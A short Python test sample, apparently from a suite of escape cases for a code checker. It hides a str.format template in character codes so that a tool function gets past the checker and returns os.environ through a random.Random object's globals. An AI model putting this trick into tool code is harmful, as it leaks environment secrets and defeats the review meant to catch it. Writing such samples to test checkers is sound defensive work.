# family: format
# Escape: a lambda parameter is "caller data" to the checker, yet the tool calls the lambda itself with a
# template built from character codes ("{0.__init__.__globals__[_os].environ}"): str.format walks from a
# random.Random instance into random's globals and prints os.environ.
import random

CODES = [123, 48, 46, 95, 95, 105, 110, 105, 116, 95, 95, 46, 95, 95, 103, 108, 111, 98, 97, 108, 115, 95, 95, 91, 95, 111, 115, 93, 46, 101, 110, 118, 105, 114, 111, 110, 125]


def tool() -> str:
    return (lambda text, obj: text.format(obj))("".join(map(chr, CODES)), random.Random())
